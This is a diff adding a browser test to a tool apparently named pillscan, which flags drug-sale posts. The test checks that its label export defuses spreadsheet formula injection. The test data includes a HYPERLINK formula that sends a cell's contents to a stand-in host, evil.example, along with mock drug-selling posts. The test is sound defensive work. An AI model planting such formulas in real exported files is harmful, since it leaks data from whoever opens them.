@@ -163,6 +163,50 @@ def test_filter_label_reload_export(browser: Any, report: Path, tmp_path: Path) 
     (report.parent / "labels.csv").write_bytes(exported.read_bytes())
 
 
+FORMULA_POSTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s blues, snap me, cashapp")',
+    "+1 555 0100 xanax bars 2mg in stock, telegram @plug",
+    "-30 for blues m30 today, snap me, cashapp",
+    "@plug percs m30 ready, 1 for 30, cashapp",
+    "'=already marked: xanax bars 2mg in stock, telegram @plug",
+]
+
+
+def test_exported_labels_are_inert_in_a_spreadsheet_and_read_back(browser: Any, tmp_path: Path) -> None:
+    """Posts (and ids) that a spreadsheet would run as formulas: the export marks them with a leading ', and
+    pillscan reads the export back as the original posts."""
+    import json
+
+    from selenium.webdriver.common.by import By
+
+    from pillscan.labels import read_labels
+
+    posts = tmp_path / "formulas.jsonl"
+    posts.write_text("".join(json.dumps({"id": f"@{i}", "text": t}) + "\n" for i, t in enumerate(FORMULA_POSTS)))
+    page = tmp_path / "r.html"
+    assert main(["-q", "scan", str(posts), "-o", str(tmp_path / "o.jsonl"), "--report", str(page)]) == 0
+    driver = browser
+    driver.get(page.as_uri())
+    driver.execute_script("window.localStorage.clear()")
+    driver.refresh()
+    rows = _visible_rows(driver)
+    assert len(rows) == len(FORMULA_POSTS)
+    for row in rows:
+        row.find_element(By.CSS_SELECTOR, "button[data-label=offer]").click()
+    for old in driver.downloads.glob("pillscan-labels-*.csv"):
+        old.unlink()
+    driver.find_element(By.ID, "export").click()
+    exported = _wait_for_download(driver.downloads)
+    with open(exported, encoding="utf-8", newline="") as fh:
+        raw = list(csv.DictReader(fh))
+    assert sorted(r["text"] for r in raw) == sorted("'" + t for t in FORMULA_POSTS)
+    assert sorted(r["id"] for r in raw) == [f"'@{i}" for i in range(len(FORMULA_POSTS))]
+    labels = read_labels(exported)
+    assert sorted(labels.frame["text"]) == sorted(FORMULA_POSTS) and labels.offers == len(FORMULA_POSTS)
+    assert sorted(labels.frame["id"]) == [f"@{i}" for i in range(len(FORMULA_POSTS))]
+    assert _severe_logs(driver) == []
+
+
 def test_tabs_and_overview(browser: Any, report: Path) -> None:
     from selenium.webdriver.common.by import By
 
